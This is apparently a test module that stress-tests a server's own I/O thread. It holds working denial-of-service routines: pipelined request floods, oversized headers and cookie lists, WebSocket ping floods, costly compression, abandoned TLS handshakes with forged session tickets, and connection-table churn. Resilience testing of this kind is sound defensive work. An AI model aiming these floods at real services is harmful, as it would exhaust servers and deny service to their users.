"""Attacks from another address on the time of the I/O thread: input that costs the client little and the server much, on many connections."""

import contextlib
import functools
import os
import re
import selectors
import socket
import ssl
import struct
import threading
import time

from attacks import attack_from_elsewhere, together
from clients import BALANCER, IP_BIND_ADDRESS_NO_PORT, WebSocket, connect, message, request

# The addresses of attackers besides `Attack.source`.
OTHERS = ("127.0.0.4", "127.0.0.5")
# More than the server answers in one turn.
PIPELINED = b"GET /files/small.txt HTTP/1.1\r\nHost: a\r\n\r\n" * 200

# These attacks use R little. A short call of R measures how fast the machine is, and an honest client may wait for as long as 40 of them take.
attack_on_io_thread = functools.partial(attack_from_elsewhere, busy=0.01, turns=40)


def pump(opening, count, data, until):
    """Keeps `count` of the connections that `opening` makes, and opens another one for each that the server ends. Each sends `data` again and
    again, and discards what arrives. The time until all are open does not count."""
    with selectors.DefaultSelector() as selector:

        def open_one():
            with contextlib.suppress(OSError):
                client = opening()
                client.setblocking(False)
                selector.register(client, selectors.EVENT_READ | selectors.EVENT_WRITE, [0])

        began = time.monotonic()
        for _ in range(count):
            open_one()
        until += time.monotonic() - began
        while time.monotonic() < until:
            for key, events in selector.select(0.1):
                client, sent = key.fileobj, key.data
                try:
                    with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                        if events & selectors.EVENT_READ and not client.recv(1 << 18):
                            raise ConnectionResetError("the connection was closed")
                        sent[0] = (sent[0] + client.send(memoryview(data)[sent[0] :][: 1 << 18])) % len(data)
                except OSError:
                    selector.unregister(client)
                    client.close()
                    open_one()


@attack_from_elsewhere(busy=0.05, turns=10, protocols=("http",))
def pipelined_requests_on_many_connections(address, protocol, until):
    pump(lambda: connect(address, protocol), 1000, PIPELINED, until)


@attack_on_io_thread(protocols=("http", "tls"))
def heads_of_many_lines(address, protocol, until):
    lines = b"".join(b"X-%d: a\r\n" % number for number in range(1990))
    data = b"GET /files/small.txt HTTP/1.1\r\nHost: a\r\n%s\r\n" % lines
    pump(lambda: connect(address, protocol), 300, data, until)


@attack_on_io_thread("--sticky", "cookie", protocols=("http",), modes=(1, 2), paths=("/small", "/files/small.txt", "/page"))
def many_session_cookies_in_each_request(address, protocol, until):
    head, _ = request(address, "/page")
    name = re.search(rb"(?i)\r\nset-cookie: *([^=]*)=", head)[1]
    # None of them is valid, and each has the length of a valid one.
    data = b"GET /small HTTP/1.1\r\nHost: a\r\nCookie: %s\r\n\r\n" % ((name + b"=" + b"A" * 36 + b";") * 2000)
    pump(lambda: connect(address, protocol), 1000, data, until)


@attack_from_elsewhere(protocols=("http", "tls"))
def pings_and_pongs_of_many_websockets(address, protocol, until):
    data = (message(b"", 9) + message(b"", 10)) * 50_000
    pump(lambda: WebSocket(address, protocol).socket, 300, data, until)


@attack_from_elsewhere("--ws-compression", "level=9", busy=0.1, turns=20, protocols=("http",), modes=(1, 2),
                       paths=("/small", "/upload?3000000"))
def compressed_echoes_of_long_messages(address, protocol, until):
    # The threads that compress also write large bodies to disk. At this level, each echo takes one of them a second.
    deflate = b"Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; server_no_context_takeover\r\n"
    data = message(os.urandom(8_000_000).hex().encode())
    together(5, lambda: pump(lambda: WebSocket(address, protocol, deflate).socket, 1, data, until))


def client_hello(tickets=0, curve=None):
    """Returns the first message of a TLS handshake, with as many tickets for sessions that the server does not know."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if curve:
        context.set_ecdh_curve(curve)
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return with_tickets(outgoing.read(), tickets) if tickets else outgoing.read()


def with_tickets(record, tickets):
    """Returns the records of a ClientHello (RFC 8446, 4.1.2) to whose only record an extension with tickets was added (4.2.11)."""
    # The headers of the record and of the message, the version and the random number.
    at = 5 + 4 + 2 + 32
    at += 1 + record[at]  # the session
    at += 2 + int.from_bytes(record[at : at + 2], "big")  # the cipher suites
    at += 1 + record[at]  # the compression methods
    identities = b"".join(struct.pack("!H29sI", 29, os.urandom(29), 1) for _ in range(tickets))
    binders = tickets * (b"\x20" + bytes(32))
    extension = struct.pack("!H", len(identities)) + identities + struct.pack("!H", len(binders)) + binders
    extensions = record[at + 2 :] + struct.pack("!HH", 41, len(extension)) + extension
    content = record[9:at] + struct.pack("!H", len(extensions)) + extensions
    content = b"\x01" + struct.pack("!I", len(content))[1:] + content
    parts = (content[start : start + 16_384] for start in range(0, len(content), 16_384))
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(part)) + part for part in parts)


def give_up(address, hello, until):
    """Sends the beginning of a TLS handshake on 1,000 connections, and resets each when the server replies. Opens another one for each."""
    # The same message again and again costs the client nothing, and the server a key exchange.
    with selectors.DefaultSelector() as selector:

        def open_one():
            client = connect(address._replace(has_tls=False), "http", first=hello)
            # It is reset when it is closed.
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            client.setblocking(False)
            selector.register(client, selectors.EVENT_READ)

        together_open = 0
        while time.monotonic() < until:
            while together_open < 1000 and time.monotonic() < until:
                open_one()
                together_open += 1
            for key, _ in selector.select(0.1):
                selector.unregister(key.fileobj)
                key.fileobj.close()
                together_open -= 1


@attack_from_elsewhere(busy=0.05, turns=10, protocols=("tls",))
def handshakes_that_are_given_up(address, protocol, until):
    give_up(address, client_hello(), until)


@attack_on_io_thread(protocols=("tls",))
def costly_handshakes_that_are_given_up(address, protocol, until):
    # A curve without fast code, and tickets that the server tries to decrypt.
    give_up(address, client_hello(900, "secp384r1"), until)


@attack_on_io_thread("--proxy-protocol", "--proxy-protocol-from", BALANCER, protocols=("tls",), modes=(1, 2))
def costly_handshakes_behind_a_load_balancer(address, protocol, until):
    # The header of the PROXY protocol and the first message of the handshake arrive together.
    give_up(address, client_hello(curve="secp384r1"), until)


def churn(addresses, until):
    """Connects without pause from each of the addresses, and resets each connection some thousands of connections later."""
    kept = []
    while time.monotonic() < until:
        for address in addresses:
            with contextlib.suppress(OSError):
                client = socket.socket()
                kept.append(client)
                client.setblocking(False)
                client.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                client.bind((address.source, 0))
                client.connect_ex((address.host, address.port))
        if len(kept) > 3000:
            for client in kept[:1000]:
                client.close()
            del kept[:1000]


def fill_and_connect(address, protocol, idle, sources, until):
    """Keeps `idle` connections without a request and 500 that pipeline requests, and connects from `sources` again and again."""
    kept = []
    with contextlib.suppress(OSError):
        for _ in range(idle):
            kept.append(connect(address, protocol, timeout=1))
    pumping = threading.Thread(target=pump, args=(lambda: connect(address, protocol, timeout=1), 500, PIPELINED, until))
    pumping.start()
    churn([address._replace(source=source) for source in sources], until)
    pumping.join()


@attack_on_io_thread(turns=130, protocols=("http",))
def connects_beside_busy_connections_in_a_full_table(address, protocol, until):
    # One address has as many connections as the default limit, and the others evict them.
    fill_and_connect(address, protocol, 9500, (address.source, *OTHERS), until)


@attack_on_io_thread(turns=130, protocols=("http",), limits={"max_connections": 1000})
def connects_beside_busy_connections_in_a_small_table(address, protocol, until):
    fill_and_connect(address, protocol, 500, (address.source,), until)
